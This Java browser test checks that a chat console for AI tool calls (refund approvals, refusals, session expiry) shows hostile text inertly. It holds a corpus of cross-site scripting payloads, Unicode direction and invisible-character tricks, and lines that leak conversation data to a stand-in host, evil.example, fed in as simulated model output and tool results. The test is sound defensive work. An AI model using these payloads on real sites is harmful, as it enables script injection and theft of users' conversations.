package dev.countersign.console;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.protocol.StrictJson;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.node.ObjectNode;

/// The chat's page in a real browser: what it shows, to whom, and what hostile text does to it.
class ChatPageTest {
  private static final String REFUND =
      "{\"case_id\":\"R-884-2233\",\"amount_cents\":8000,\"currency\":\"USD\"}";
  private static final int MOST_BYTES = 150_000;

  /// The usual corpus: what would run, load from elsewhere, lead away, or look like something else.
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'-alert(1)-'",
          "<svg/onload=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<a href=javascript:alert(1)>approve</a>",
          "<img src=https://evil.example/leak?conversation>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content='0;url=https://evil.example'>",
          "<base href=https://evil.example/>",
          "<form action=https://evil.example><input name=code></form>",
          "<style>@import 'https://evil.example/x.css'</style>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "{{constructor.constructor('alert(1)')()}}",
          "![leak](https://evil.example/leak?conversation)",
          "[approve here](https://evil.example/approve)",
          "javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "\u202E\u2066reversed\u2069\u202C",
          "zero\u200Bwidth\uFEFF\u00ADsoft",
          "tag\uDB40\uDC41letters",
          "filler\u3164\u115F");

  @Test
  void showsCallsApprovalsAndRefusalsAndNothingHostileRuns() {
    try (var world = new ChatWorld(SessionLimits.STANDARD);
        var person = new PersonInChromium(world.address, ChatWorld.MAYA, ChatWorld.PASSWORD)) {
      person.signIn("Contoso");
      person.await("Refund a customer");
      ObjectNode fresh = person.look("chat-1-fresh");
      judge(fresh, world);
      assertThat(fresh.path("bytes").asInt(0)).isBetween(5_000, MOST_BYTES);
      assertThat(fresh.path("text").asString(""))
          .contains("Maya <Lindqvist>", "signed in at Contoso", "changes data");

      world.model.calls("process_refund", REFUND);
      world.gateway.results.add(approval());
      person.say("Refund 80 dollars on R-884-2233");
      person.await("You must approve this yourself");
      judge(person.look("chat-2-waiting"), world);

      world.gateway.results.add(hostile());
      world.model.says("<img src=x onerror=alert(1)>", " <script>alert(2)</script> \u202Edone");
      person.click("I have answered");
      person.await("made for this call, and gone");
      person.await("<script>alert(2)</script>");
      ObjectNode shown = person.look("chat-3-done");
      judge(shown, world);
      assertThat(shown.path("text").asString(""))
          .contains("<svg onload=alert(3)>", "<img src=x onerror=alert(1)>")
          .contains(HOSTILE.subList(0, 18));
      isPlain(shown, world);

      world.model.calls(
          "process_refund", StrictJson.write(StrictJson.object().put("case_id", hostile())));
      world.gateway.results.add(hostileRefusal());
      world.model.says(String.join(" ", HOSTILE), " That was refused too.");
      person.say("\u202E<script>alert(7)</script>");
      person.await("That was refused too.");
      ObjectNode refused = person.look("");
      judge(refused, world);
      isPlain(refused, world);

      world.model.calls("process_refund", REFUND);
      world.gateway.results.add(
          """
          {"isError":true,"content":[],"structuredContent":{"status":"denied","code":"rar_rejected","reason":"above the cap","jti":"jti-broker","reasons":["hard-cap"]}}
          """);
      world.model.says("It was refused.");
      person.say("And 9,000 dollars");
      person.await("by: Credential broker");
      person.await("It was refused.");
      judge(person.look("chat-4-refused"), world);

      world.userInfo.status = 401;
      person.await("You are signed out");
      ObjectNode ended = person.look("chat-5-ended");
      assertThat(ended.path("text").asString("")).contains("Your session was ended");
      assertThat(ended.path("findings")).isEmpty();
      person.click("Sign in again");
      person.await("Choose where you have your account");
      assertThat(person.back().path("text").asString("")).doesNotContain("Last calls");
    }
  }

  @Test
  void showsOneConversationInTwoTabsAndSaysInBothWhyItEnds() {
    var now = new AtomicReference<Instant>(Instant.now());
    try (var world = new ChatWorld(SessionLimits.STANDARD, now::get);
        var person = new PersonInChromium(world.address, ChatWorld.MAYA, ChatWorld.PASSWORD)) {
      person.signIn("Contoso");
      person.tab("second");
      world.model.says("Good morning.");
      person.say("Hello");
      person.await("Good morning.");
      person.tab("first");
      person.await("Good morning.");

      world.gateway.hold = new CountDownLatch(1);
      world.model.calls("process_refund", REFUND);
      person.say("Refund 80 dollars on R-884-2233");
      person.await("being decided");
      now.updateAndGet(was -> was.plus(Duration.ofMinutes(31)));
      person.await("you did nothing here for a while");
      person.await("Your session ended during this call.");
      judge(person.look("chat-6-expired"), world);
      person.tab("second");
      person.await("Your session ended during this call.");
      world.gateway.hold.countDown();

      person.click("Sign in again");
      person.click("Contoso");
      person.await("Last calls");
      person.tab("third");
      person.click("Sign out");
      person.tab("second");
      person.await("You signed out.");
    }
  }

  private static String approval() {
    return """
    {"isError":true,"content":[],"structuredContent":{"status":"approval_required","approval_id":"a","url":"http://127.0.0.1:1/approve/a","expires_at":"2100-01-01T00:00:00Z"},
     "_meta":{"dev.countersign/jti":"jti-wait"}}
    """;
  }

  private static String hostile() {
    ObjectNode result = StrictJson.object();
    result.putArray("content").addObject().put("type", "text").put("text", "x");
    ObjectNode structured = result.putObject("structuredContent");
    structured.put("<b>name</b>", "<svg onload=alert(3)>");
    structured.put("payee", "\u202Eevil\u200B");
    structured.putArray("rows").addObject().put("a", "javascript:alert(4)").put("__proto__", "x");
    var corpus = structured.putArray("corpus");
    HOSTILE.forEach(text -> corpus.addObject().put("text", text).put(text, "name"));
    result
        .putObject("_meta")
        .put("dev.countersign/jti", "jti-done")
        .put("dev.countersign/lease", "l")
        .put("dev.countersign/revoked", true);
    return StrictJson.write(result);
  }

  private static String hostileRefusal() {
    ObjectNode result = StrictJson.object().put("isError", true);
    result.putArray("content");
    ObjectNode denied = result.putObject("structuredContent").put("status", "denied");
    denied.put("code", "<img src=x onerror=alert(5)>").put("reason", String.join(" ", HOSTILE));
    denied.put("jti", "\"><script>alert(6)</script>");
    HOSTILE.forEach(denied.putArray("reasons")::add);
    return StrictJson.write(result);
  }

  /// Nothing turned or hidden, no link but our own.
  private static void isPlain(ObjectNode page, ChatWorld world) {
    assertThat(page.path("text").asString(""))
        .doesNotContainPattern("[\\p{Cf}\\p{Cc}\\u115f\\u3164&&[^\\n\\t]]|\\x{e0041}");
    assertThat(page.path("links"))
        .allSatisfy(link -> assertThat(link.asString("")).startsWith(world.address + "/"));
  }

  private static void judge(ObjectNode page, ChatWorld world) {
    assertThat(page.path("findings")).as("axe: serious or critical").isEmpty();
    assertThat(page.path("problems")).as("errors on the browser's console").isEmpty();
    assertThat(page.path("origins")).hasSize(1);
    assertThat(page.path("origins").get(0).asString("")).isEqualTo(world.address);
  }
}
